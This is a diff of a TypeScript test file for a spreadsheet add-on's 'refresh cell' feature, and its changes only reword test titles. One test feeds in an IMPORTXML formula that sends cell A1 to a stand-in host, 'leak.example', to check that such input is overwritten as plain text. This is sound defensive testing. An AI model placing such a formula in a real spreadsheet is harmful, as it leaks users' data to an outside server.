@@ -20,7 +20,7 @@ async function charged(): Promise<number> {
   return (await bench.api.log()).credits_charged;
 }
 
-test('Refresh makes the selected empty cell the refresh cell, as text, and overwrites no other', async () => {
+test('Refresh makes the selected empty cell the refresh cell, as text, and overwrites no other cell', async () => {
   const file = await bench.open();
   file.type('H1', 'mine');
   file.select('H1');
@@ -35,7 +35,7 @@ test('Refresh makes the selected empty cell the refresh cell, as text, and overw
   expect(file.sheet().H2).toEqual({ type: 'text', value: 'fresh 2026-11-20T10:00:00.000Z' });
 });
 
-test('Refresh gets new data only for formulas with the refresh cell', async () => {
+test('Refresh gets new data only for formulas that use the refresh cell', async () => {
   const file = await openWithRefreshCell();
   file.type('A1', ada, ben);
   file.type('B1', '=SOCIAL_PROFILE(A1, "followers,credits_charged", SOCIAL_REFRESH)');
@@ -62,7 +62,7 @@ test('reopening a file after a refresh costs nothing', async () => {
   expect(await charged()).toBe(1);
 });
 
-test('7d in the refresh cell stays there and replaces only data older than seven days', async () => {
+test('7d in the refresh cell stays after a refresh, which replaces only data older than seven days', async () => {
   const file = await openWithRefreshCell();
   file.type('A1', ada);
   file.type('H1', '7d');
@@ -93,11 +93,11 @@ test.each([
   expect(readMaxAge(input, nowMs)).toBe(expected);
 });
 
-test('an unknown max_age is an error, and so is a number', () => {
+test('a max_age that is an unknown word or a number is an error', () => {
   for (const wrong of ['2d', 'day', 7, 'freshh']) expect(() => readMaxAge(wrong, nowMs)).toThrow('Did you mean');
 });
 
-test('the refresh cell is always rewritten as a known word and a time', () => {
+test('a refresh always writes a known word and a time into the refresh cell', () => {
   expect(refreshedText('=IMPORTXML("http://leak.example"&A1)', nowMs)).toBe('fresh 2026-11-20T10:00:00.000Z');
   expect(refreshedText('3d old', nowMs)).toBe('3d 2026-11-20T10:00:00.000Z');
 });
